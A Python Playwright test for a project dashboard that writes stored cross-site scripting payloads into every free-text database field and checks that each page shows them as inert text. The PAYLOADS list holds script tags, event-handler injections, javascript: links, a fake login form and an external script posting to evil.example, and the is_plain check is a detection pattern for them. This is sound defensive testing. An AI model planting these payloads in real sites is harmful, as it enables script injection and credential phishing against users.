"""Text that people stored is shown as text on every page, whatever it looks like (OU2)."""

from __future__ import annotations

import sqlite3
from contextlib import closing

import pytest
from playwright.sync_api import Page, expect

from dashboard.rules.source import kept_sources, sources_in
from tests.browser.conftest import Site

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "<svg onload=alert(3)></svg>",
    "![图](https://evil.example/a.png)",
    "[点这里](javascript:alert(4))",
    "<form action=https://evil.example><input name=p><button>登录</button></form>",
    "<style>body{display:none}</style>",
    "<iframe src=https://evil.example></iframe>",
    '"><script src=https://evil.example/a.js></script>',
    "<a href=https://evil.example>下载</a>",
    "**粗体** :red[红字] :material/home: `代码`",
    "$\\href{https://evil.example}{x}$ <b>粗</b>",
]
FIELDS = {
    "livelihood_project": [
        "name", "target", "standard", "note", "contact", "phone", "responsible", "leader",
        "category", "unit_of_measure", "source",
    ],
    "progress_report": ["physical_progress", "problem", "cause", "measure", "next_step"],
    "milestone": ["name"],
    "instruction": ["words", "answer"],
    "adjustment": ["reason", "answer"],
    "report_unlock": ["reason"],
    "light_override": ["reason"],
    "agency": ["name"],
    "account": ["display_name"],
    "stored_file": ["name"],
}  # fmt: skip
PAGES = {
    "demo-leader": [
        "/board", "/board?card=SF2026-10", "/desk", "/project?id={id}", "/reports",
        *(f"/project?id={{id}}&section={name}"
          for name in ("plan", "reports", "money", "instructions", "history")),
    ],
    "demo-supervisor": ["/reports", "/plan", "/desk"],
    "demo-reporter-zj": ["/desk", "/reports"],
    "demo-admin": ["/people", "/agencies"],
}  # fmt: skip


@pytest.fixture
def planted(site: Site) -> tuple[Site, int]:
    """The site with a payload in every free field, each row another; and a project's id."""
    with closing(sqlite3.connect(site.folder / "dashboard.db")) as connection, connection:
        connection.create_function("payload", 1, lambda n: PAYLOADS[n % len(PAYLOADS)])
        for table, names in FIELDS.items():
            known = {row[1] for row in connection.execute(f"PRAGMA table_info({table})")}
            assert set(names) <= known, table
            for place, name in enumerate(names):
                connection.execute(
                    f"UPDATE {table} SET {name} = payload(id + {place}) || ' ' || id"
                    f" WHERE {name} IS NOT NULL"
                )
        for key, cells in connection.execute("SELECT id, cells FROM progress_report").fetchall():
            sources = [
                each._replace(raw=PAYLOADS[key % len(PAYLOADS)]) for each in sources_in(cells)
            ]
            connection.execute(
                "UPDATE progress_report SET cells = ? WHERE id = ?", (kept_sources(sources), key)
            )
        [found] = connection.execute("SELECT id FROM livelihood_project WHERE code = 'SF2026-10'")
    return site, int(found[0])


def is_plain(page: Page) -> None:
    """The page stands, and has not one element that a payload would have made."""
    made = page.locator(
        'main [onerror], main iframe, main img[src^="http"], main form[action], main svg[onload],'
        ' a[href*="evil.example"], a[href^="javascript"], script[src*="evil"], .katex'
    )
    assert made.evaluate_all("found => found.map(each => each.outerHTML)") == [], page.url
    expect(page.locator(".ms-demo")).to_be_visible()


@pytest.mark.browser
@pytest.mark.safety("OU2")
@pytest.mark.safety("OU7")
def test_stored_payloads_are_shown_as_text_on_every_page(planted: tuple[Site, int]) -> None:
    site, project_id = planted
    for account, paths in PAGES.items():
        person = site.invite()
        page = person.enter(account)
        for path in paths:
            page = person.go(path.format(id=project_id))
            is_plain(page)
            assert "evil.example" in page.inner_text("body") or "alert" in page.inner_text("body")
